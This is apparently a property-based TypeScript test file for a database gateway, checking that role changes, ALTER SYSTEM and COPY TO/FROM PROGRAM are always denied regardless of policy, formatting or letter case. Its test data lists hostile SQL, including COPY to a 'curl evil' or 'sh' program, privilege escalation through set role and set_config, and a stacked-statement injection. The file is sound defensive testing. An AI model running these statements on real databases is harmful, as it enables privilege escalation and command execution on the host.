/**
 * Properties of the gateway's statement checks, through the real parser:
 * - no statement that changes the role or session authorization, runs ALTER SYSTEM or COPY to/from a program is
 *   ever allowed, whatever the rules and the default say;
 * - whitespace, comments and letter case around and inside a statement do not change its decision.
 */
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { decideStatements, type StatementContext } from '../../decide/gateway-statement.decide.js';
import { gatewayCondition as when } from '../../../test/factories/profile.factory.js';
import type { GatewayPolicy, GatewayRule } from '../../policy/model.js';
import { classifySql, loadSqlParser } from './sql-classify.js';

beforeAll(async () => {
  await loadSqlParser();
});

/** A token: a keyword or unquoted identifier (any letter case means the same) or a literal kept as written. */
type Token = { readonly word: string } | { readonly literal: string };
const w = (text: string): Token[] => text.split(' ').map((word) => ({ word }));
const lit = (literal: string): Token => ({ literal });

const DANGEROUS: readonly Token[][] = [
  w('set role admin'),
  w('set local role admin'),
  w('set session role admin'),
  [...w('set role to'), lit("'admin'")],
  [...w('set'), lit('"role"'), ...w('='), lit("'admin'")],
  w('reset role'),
  w('set role none'),
  w('set session authorization admin'),
  w('set session authorization default'),
  w('reset session authorization'),
  [...w('alter system set work_mem ='), lit("'1GB'")],
  w('alter system reset all'),
  [...w('copy orders to program'), lit("'curl evil'")],
  [...w('copy orders from program'), lit("'id'")],
  [...w('copy ( select 1 ) to program'), lit("'sh'")],
  [...w('select set_config ('), lit("'role'"), ...w(','), lit("'admin'"), ...w(', false )')],
  [...w('select * from set_config ('), lit("'session_authorization'"), ...w(','), lit("'x'"), ...w(', true )')],
  [...w('select 1 ; reset role')],
  [...w('select * from orders where id = 1 ; set role admin')],
  [...w('begin ; set local role admin ; commit')],
];

const BENIGN: readonly Token[][] = [
  w('select * from orders where id = 1'),
  w('select count ( * ) from public . orders'),
  w('delete from orders where id = 2'),
  w('insert into orders values ( 1 )'),
  w('begin ; select 1 ; commit'),
  [...w('select * from orders where name ='), lit("'Robert''); drop table students;--'")],
  w('create table t ( a int )'),
  w('show search_path'),
];

const SEPARATORS = [' ', '  ', '\n', '\t', ' /* c */ ', '/*c*/', ' /* a /* nested */ b */ ', ' -- c\n', '\r\n'];

/** Joins tokens with the chosen separators and flips the case of keyword letters by `mask`. */
function render(tokens: readonly Token[], separators: readonly number[], mask: readonly boolean[]): string {
  let text = SEPARATORS[separators[0] ?? 0] ?? ' ';
  let letter = 0;
  tokens.forEach((token, i) => {
    if ('literal' in token) text += token.literal;
    else {
      for (const char of token.word) text += mask[letter++ % mask.length] ? char.toUpperCase() : char.toLowerCase();
    }
    text += SEPARATORS[separators[(i + 1) % separators.length] ?? 0] ?? ' ';
  });
  return text;
}

const CONDITIONS = [
  undefined,
  'true',
  'statement.kind == "role"',
  'statement.kind == "select"',
  'statement.kind in ["copy", "utility", "session"]',
  'statement.command == "SET ROLE"',
  'statement.readOnly',
  '!statement.readOnly',
  'statement.copy.program',
  '"role" in statement.settings',
].map((source) => (source === undefined ? undefined : when(source)));

const ruleArbitrary: fc.Arbitrary<GatewayRule> = fc
  .record({ condition: fc.integer({ min: 0, max: CONDITIONS.length - 1 }), allow: fc.boolean() })
  .map(({ condition, allow }) => {
    const compiled = CONDITIONS[condition];
    return {
      name: `r${condition}${allow ? 'a' : 'd'}`,
      ...(compiled ? { when: compiled } : {}),
      ...(allow ? { allow: true as const } : { deny: 'no' }),
    };
  });

const policyArbitrary: fc.Arbitrary<GatewayPolicy> = fc.record({
  rules: fc.array(ruleArbitrary, { maxLength: 6 }),
  otherwise: fc.constantFrom('allow' as const, 'deny' as const),
  masks: fc.constant([]),
});

const layout = fc.record({
  separators: fc.array(fc.integer({ min: 0, max: SEPARATORS.length - 1 }), { minLength: 1, maxLength: 12 }),
  mask: fc.array(fc.boolean(), { minLength: 1, maxLength: 16 }),
});

const CONTEXT: StatementContext = {
  requester: { name: 'mallory', kind: 'human', groups: [], attributes: {}, disabled: false },
  resource: { name: 'orders-db', profile: 'pg', labels: {}, connection: {}, attributes: {} },
  profile: { name: 'pg', classification: 'internal', environment: 'prod' },
  now: 0,
};

describe('gateway statement properties', () => {
  it('never allows a role change, ALTER SYSTEM or COPY with a program, whatever the rules say', () => {
    fc.assert(
      fc.property(fc.constantFrom(...DANGEROUS), layout, policyArbitrary, (tokens, { separators, mask }, policy) => {
        const sql = render(tokens, separators, mask);
        const classified = classifySql(sql);
        expect('error' in classified, `${sql} did not parse`).toBe(false);
        const decision = decideStatements(policy, classified, CONTEXT);
        expect(decision.allowed, sql).toBe(false);
        expect(decision.builtIn, sql).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  it('decides the same whatever the whitespace, comments and letter case', () => {
    const statements = [...DANGEROUS, ...BENIGN];
    fc.assert(
      fc.property(fc.constantFrom(...statements), layout, policyArbitrary, (tokens, { separators, mask }, policy) => {
        const plain = render(tokens, [0], [false]);
        const varied = render(tokens, separators, mask);
        const expected = decideStatements(policy, classifySql(plain), CONTEXT);
        const actual = decideStatements(policy, classifySql(varied), CONTEXT);
        expect({ allowed: actual.allowed, rule: actual.rule }, varied).toEqual({
          allowed: expected.allowed,
          rule: expected.rule,
        });
      }),
      { numRuns: 400 },
    );
  });
});
